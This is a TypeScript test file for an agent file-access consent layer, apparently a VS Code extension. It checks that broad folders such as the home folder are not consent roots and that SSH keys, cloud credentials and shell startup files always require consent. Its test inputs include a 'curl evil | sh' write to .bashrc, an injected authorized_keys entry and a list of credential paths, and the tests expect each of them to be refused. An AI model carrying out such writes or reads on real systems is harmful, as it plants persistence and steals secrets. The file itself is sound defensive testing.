/**
 * Issue 26 item 6: a workspace folder that is the home folder, one of its parents or a
 * filesystem root is not a consent root (as if no folder were open: everything asks), and under
 * any root `~/.ssh`, `~/.aws`, `~/.gnupg`, `~/.config` and the shell's startup files ask, for
 * reads and writes. The home folder is a scratch folder here (`home` option), never the real one.
 */
import { test } from "node:test";
import assert from "node:assert/strict";
import { existsSync, mkdirSync, readFileSync, realpathSync, symlinkSync, writeFileSync } from "node:fs";
import { homedir } from "node:os";
import { dirname, join, parse } from "node:path";
import type * as acp from "@agentclientprotocol/sdk";
import { fileSystemCallbacks } from "../../src/acp/client/callbacks/fileSystemCallbacks";
import { consentRoots, homeSecretReason } from "../../src/acp/platform/consentRoots";
import { ToolPaths } from "../../src/acp/client/mcpTools/toolPaths";
import { PathGrants } from "../../src/acp/client/callbacks/pathGrants";
import { locationsInside } from "../../src/acp/agents/permissionRuleDecision";
import { guardSensitiveEdits, touchesSensitiveFile } from "../../src/acp/client/callbacks/sensitiveRules";
import { DiskFiles, ScriptedConsent, type ScriptedAnswers } from "../support/diskFiles";
import { scratchDir } from "../support/scratchDir";

const signal = new AbortController().signal;

function fakeHome(): string {
  const home = join(realpathSync(scratchDir("acp-home-")), "me");
  mkdirSync(join(home, ".ssh"), { recursive: true });
  writeFileSync(join(home, ".ssh/id_rsa"), "PRIVATE KEY\n");
  writeFileSync(join(home, ".bashrc"), "# rc\n");
  mkdirSync(join(home, ".config/nvim"), { recursive: true });
  writeFileSync(join(home, ".config/nvim/init.lua"), "-- nvim\n");
  mkdirSync(join(home, "project"));
  writeFileSync(join(home, "project/notes.txt"), "notes\n");
  return home;
}

function setup(roots: (home: string) => string[], answers: ScriptedAnswers = {}) {
  const home = fakeHome();
  const consent = new ScriptedConsent(answers);
  const fs = fileSystemCallbacks({ agent: "A", roots: () => roots(home), files: new DiskFiles(), consent, home });
  const read = (path: string) => fs.readTextFile({ sessionId: "s", path }, signal);
  const write = (path: string, content = "x") => fs.writeTextFile({ sessionId: "s", path, content }, signal);
  return { home, consent, read, write };
}

test("with the home folder open, ~/.ssh/id_rsa and ~/.bashrc ask, and the agent is told why it was refused", async () => {
  const { home, consent, read, write } = setup((home) => [home]);
  await assert.rejects(read(join(home, ".ssh/id_rsa")), (error: { code?: number; data?: { reason?: string } }) => {
    assert.equal(error.code, -32003);
    assert.equal(error.data?.reason, "broad-folder");
    return true;
  });
  await assert.rejects(write(join(home, ".bashrc"), "curl evil | sh"), /did not allow/);
  await assert.rejects(write(join(home, ".ssh/authorized_keys"), "ssh-rsa AAAA"), /did not allow/);
  await assert.rejects(read(join(home, "project/notes.txt")), /did not allow/);
  assert.equal(readFileSync(join(home, ".bashrc"), "utf8"), "# rc\n");
  assert.equal(existsSync(join(home, ".ssh/authorized_keys")), false);
  assert.deepEqual(consent.asked, [
    `read ${join(home, ".ssh/id_rsa")}`,
    `outside ${join(home, ".bashrc")}`,
    `outside ${join(home, ".ssh/authorized_keys")}`,
    `read ${join(home, "project/notes.txt")}`,
  ]);
});

test("a parent of the home folder, a filesystem root, or a link to the home folder is not a consent root either", async () => {
  for (const roots of [
    (home: string) => [dirname(home)],
    () => [parse(process.cwd()).root],
    (home: string) => {
      const link = join(realpathSync(scratchDir("acp-home-link-")), "ws");
      symlinkSync(home, link);
      return [link];
    },
  ]) {
    const { home, consent, read } = setup(roots);
    await assert.rejects(read(join(home, "project/notes.txt")), /did not allow/);
    assert.deepEqual(consent.asked, [`read ${join(home, "project/notes.txt")}`]);
  }
  assert.deepEqual(consentRoots(["/"]), []);
  assert.deepEqual(consentRoots([homedir(), "/srv/app"]), ["/srv/app"]);
});

test("a project below the home folder is still a root: its files never ask", async () => {
  const { home, consent, read, write } = setup((home) => [join(home, "project")]);
  assert.equal((await read(join(home, "project/notes.txt"))).content, "notes\n");
  await write(join(home, "project/notes.txt"), "more");
  assert.deepEqual(consent.asked, []);
});

test("under any root, ~/.config, ~/.ssh and the shell's startup files ask for reads and writes", async () => {
  const { home, consent, read, write } = setup((home) => [join(home, ".config/nvim"), join(home, ".ssh")], {
    read: "deny",
  });
  await assert.rejects(read(join(home, ".config/nvim/init.lua")), /did not allow/);
  await assert.rejects(write(join(home, ".config/nvim/init.lua"), "os.execute('x')"), /did not allow/);
  await assert.rejects(read(join(home, ".ssh/id_rsa")), /did not allow/);
  assert.deepEqual(consent.asked, [
    `read ${join(home, ".config/nvim/init.lua")}`,
    `sensitive ${join(home, ".config/nvim/init.lua")}`,
    `read ${join(home, ".ssh/id_rsa")}`,
  ]);
  assert.match(consent.reasons[0]!, /~\/\.config/);
  for (const name of [".ssh/id_ed25519", ".aws/credentials", ".gnupg/x", ".config/git/config", ".zshrc", ".profile"])
    assert.ok(homeSecretReason([join(home, name)], home), name);
  for (const name of ["project/.bashrc.md", "project/.ssh-notes", ".sshrc-not"])
    assert.equal(homeSecretReason([join(home, name)], home), undefined, name);
});

test("the VS Code tools and saved rules see the same: a home root is not a root, ~/.ssh is never inside", async () => {
  const home = fakeHome();
  const consent = new ScriptedConsent({ read: "deny" });
  const tools = new ToolPaths({
    agent: "A",
    roots: () => [home],
    sessionId: () => "s",
    consent,
    grants: new PathGrants().scope("A"),
    home,
  });
  await assert.rejects(tools.checkInput(join(home, "project/notes.txt")), /did not allow/);
  assert.equal((await tools.filterVisible([join(home, ".ssh/id_rsa")], (path) => path)).hidden, 1);
  const location = (path: string) => [{ path }];
  assert.equal(await locationsInside(location(join(home, "project/notes.txt")), [home], home), false);
  assert.equal(await locationsInside(location(join(home, ".ssh/id_rsa")), [join(home, ".ssh")], home), false);
  assert.equal(await locationsInside(location(join(home, "project/notes.txt")), [join(home, "project")], home), true);
  const edit = (path: string): acp.RequestPermissionRequest => ({
    sessionId: "s",
    toolCall: { toolCallId: "t", kind: "edit", locations: [{ path }] },
    options: [],
  });
  assert.equal(touchesSensitiveFile(edit(join(home, ".bashrc")), [home], home), true);
  assert.equal(touchesSensitiveFile(edit(join(home, "project/a.ts")), [join(home, "project")], home), false);
});

test("a saved allow rule never answers for ~/.ssh, even for a read; other reads it still answers", async () => {
  const home = fakeHome();
  const guarded = guardSensitiveEdits(
    { decide: async () => ({ decision: "allow_once", rule: "always" }) },
    () => [],
    home,
  );
  const read = (path: string): acp.RequestPermissionRequest => ({
    sessionId: "s",
    toolCall: { toolCallId: "t", kind: "read", locations: [{ path }] },
    options: [],
  });
  assert.equal(await guarded.decide({ name: "A", id: "a" }, read(join(home, ".ssh/id_rsa"))), undefined);
  assert.equal((await guarded.decide({ name: "A", id: "a" }, read(join(home, "project/notes.txt"))))?.rule, "always");
});
